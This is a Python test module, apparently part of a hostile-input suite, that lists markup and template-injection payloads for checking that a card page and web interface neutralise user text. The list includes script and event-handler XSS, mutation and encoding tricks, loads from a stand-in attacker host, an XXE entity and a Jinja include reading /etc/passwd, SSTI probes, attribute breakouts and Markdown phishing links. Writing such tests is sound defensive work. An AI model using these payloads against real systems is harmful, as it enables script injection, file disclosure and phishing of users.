"""Markup and templates, against the card's page and the web interface."""

from __future__ import annotations

from xinsider_assets_tests.hostile.attack import HOST, Attack, Where

_PWNED = "document.title='pwned'"


def _attack(name: str, payload: str, tries: str, why: str, where: Where = "text") -> Attack:
    """A language tag that is none is left out, and a post without one is fine."""
    return Attack(
        id=f"markup-{name}",
        kind="markup",
        where=where,
        payload=payload,
        tries=tries,
        why=why,
        language="zxx",
        spoils=(HOST, "pwned", "<", "{{", "${", "49"),
        is_harmless=where == "lang",
    )


MARKUP = (
    _attack("script", f"<script>{_PWNED}</script>", "run a script", "the plain one"),
    _attack(
        "script-src",
        f"<script src=http://{HOST}/s.js></script>",
        "load a script",
        "the plain one",
    ),
    _attack(
        "image-onerror",
        f'<img src=x onerror="{_PWNED}">',
        "run a script",
        "handlers run without a script element",
    ),
    _attack(
        "svg-onload",
        f"<svg/onload={_PWNED}><image href=http://{HOST}/i.svg /></svg>",
        "run a script, load a picture",
        "svg is markup of its own",
    ),
    _attack(
        "details-ontoggle",
        f"<details open ontoggle={_PWNED}><summary>Apple</summary></details>",
        "run a script",
        "a handler that needs no click",
    ),
    _attack(
        "style-import",
        f"<style>@import 'http://{HOST}/a.css';*{{color:red}}</style>",
        "load a style, recolour the card",
        "styles load styles",
    ),
    _attack(
        "style-url",
        f'</div></main><div style="background:url(http://{HOST}/b.png)">',
        "load a picture",
        "styles load pictures",
    ),
    _attack(
        "style-expression",
        f"<p style='width:expression({_PWNED})'>Apple</p>",
        "run a script",
        "old browsers run it",
    ),
    _attack(
        "style-overlay",
        "<div style='position:fixed;inset:0;background:#fff;z-index:9'>Apple at $1</div>",
        "paint over the card",
        "a fixed box is not held by its parent",
    ),
    _attack(
        "style-closed",
        f"</style><style>.card{{display:none}}body{{background:url(//{HOST}/c)}}</style>",
        "break out of the page's own style",
        "values stand inside style elements",
    ),
    _attack("iframe", f"<iframe src=http://{HOST}/f></iframe>", "load a page", "the plain one"),
    _attack(
        "meta-refresh",
        f"<meta http-equiv=refresh content='0;url=http://{HOST}/m'>",
        "leave the page",
        "needs no script",
    ),
    _attack("base", f"<base href=http://{HOST}/>", "redirect what is relative", "needs no script"),
    _attack(
        "object",
        f"<object data=http://{HOST}/o></object><embed src=http://{HOST}/e>",
        "load a plugin",
        "older ways to load",
    ),
    _attack(
        "preload",
        f"<link rel=preload as=image href=http://{HOST}/p><link rel=dns-prefetch href=//{HOST}>",
        "load a picture, look up a name",
        "loads before anything is shown",
    ),
    _attack(
        "media",
        f"<video poster=http://{HOST}/v><source src=http://{HOST}/w></video>"
        f"<img srcset='http://{HOST}/z 2x'>",
        "load media",
        "pictures hide in many attributes",
    ),
    _attack(
        "form",
        f"<form action=http://{HOST}/f><button autofocus formaction=javascript:{_PWNED}>",
        "send a form",
        "needs no script element",
    ),
    _attack(
        "mutation",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        f"onerror={_PWNED}&gt;'>",
        "come to life when parsed twice",
        "sanitisers and browsers parse differently",
    ),
    _attack(
        "comment",
        f"<!-- hidden --><!--><img src=http://{HOST}/c>-->",
        "hide in a comment",
        "comments end in many ways",
    ),
    _attack("cdata", f"<![CDATA[<script>{_PWNED}</script>]]>", "hide in CDATA", "text to XML only"),
    _attack(
        "external-entity",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "read a file",
        "XML parsers fetch entities",
    ),
    _attack(
        "escaped-twice",
        f"&amp;lt;script&amp;gt;{_PWNED}&amp;lt;/script&amp;gt;",
        "come to life when resolved twice",
        "the API escapes once",
    ),
    _attack(
        "numeric-entities",
        "&#60;img src=x onerror=&#x61;lert(1)&#62;",
        "come to life when resolved",
        "entities hide markup from filters",
    ),
    _attack(
        "full-width",
        f"\uff1cscript\uff1e{_PWNED}\uff1c/script\uff1e",
        "come to life when normalised",
        "NFKC makes markup of it",
    ),
    _attack("jinja-expression", "{{ 7*7 }} {{ config.__class__ }}", "run in a template", "Jinja"),
    _attack("jinja-block", "{% include '/etc/passwd' %}{# gone #}", "read a file", "Jinja"),
    _attack("other-templates", "${7*7} #{7*7} <%= 7*7 %> ${{7*7}}", "run in a template", "others"),
    _attack(
        "attribute-lang",
        f'en"><img src=http://{HOST}/l><html lang="',
        "break out of an attribute",
        "the language stands in an attribute",
        "lang",
    ),
    _attack(
        "name",
        f"</bdi><img src=http://{HOST}/n onerror={_PWNED}><b>Desk",
        "load a picture from the header",
        "names are markup too",
        "author name",
    ),
    _attack(
        "handle",
        f'"><svg onload={_PWNED}>',
        "run a script from the header",
        "handles are taken for identifiers",
        "handle",
    ),
    _attack(
        "markdown-image",
        f"![x](http://{HOST}/md.png) ![y][1]\n\n[1]: http://{HOST}/ref.png",
        "load a picture in the web interface",
        "metadata is shown as Markdown",
    ),
    _attack(
        "markdown-link",
        f"[Apple results](http://{HOST}/phish) <http://{HOST}/auto> www.{HOST}",
        "lead readers of the web interface away",
        "metadata is shown as Markdown",
    ),
    _attack(
        "markdown-blocks",
        "\n\n# Selected: bankrupt\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```\n- x",
        "forge headings and tables in the web interface",
        "metadata is shown as Markdown",
    ),
    _attack(
        "markdown-name",
        f"![a](//{HOST}/n) | `b` *c* _d_ ~~e~~",
        "load a picture in the web interface",
        "names are shown as Markdown",
        "author name",
    ),
)
